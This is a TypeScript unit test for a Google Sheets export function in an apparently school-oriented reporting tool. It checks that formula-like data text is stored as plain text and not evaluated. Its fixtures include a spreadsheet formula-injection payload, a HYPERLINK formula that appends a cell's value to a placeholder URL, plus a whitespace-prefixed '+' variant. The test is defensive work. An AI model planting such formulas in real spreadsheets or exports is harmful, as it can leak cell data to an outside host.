/**
 * The Sheets writer of programme templates (gas/reporting/write-sheet.ts): text from the data that
 * looks like a formula is formatted as text even where its column has a number format of its own,
 * so setValues keeps it text (Sheets makes «=…» a formula in a cell not formatted '@'); the
 * template's own formulas keep their format.
 */
import { layoutGrid } from '../gas/reporting/write-sheet';
import type { SheetLayout } from '../shared/roadmap/template-sheet';

test('formula-like school text is text whatever the column format; real formulas and numbers keep theirs', () => {
  const layout = {
    name: 'Дорожная карта', width: 4, merged: [], validations: [], blocks: [], freezeRow: 0, widths: [10, 10, 10, 10],
    rows: [{ row: 1, values: ['=HYPERLINK("http://x"&A1,"y")', ' \t+1+1', { formula: 'SUM(1,2)' }, 0.5], formats: ['0.00', '0.00', '0.00', '0.00'] }],
  } as unknown as SheetLayout;
  const { values, formats } = layoutGrid(layout);
  expect(values[0]).toEqual(['=HYPERLINK("http://x"&A1,"y")', ' \t+1+1', '=SUM(1,2)', 0.5]);
  expect(formats[0]).toEqual(['@', '@', '0.00', '0.00']);
});
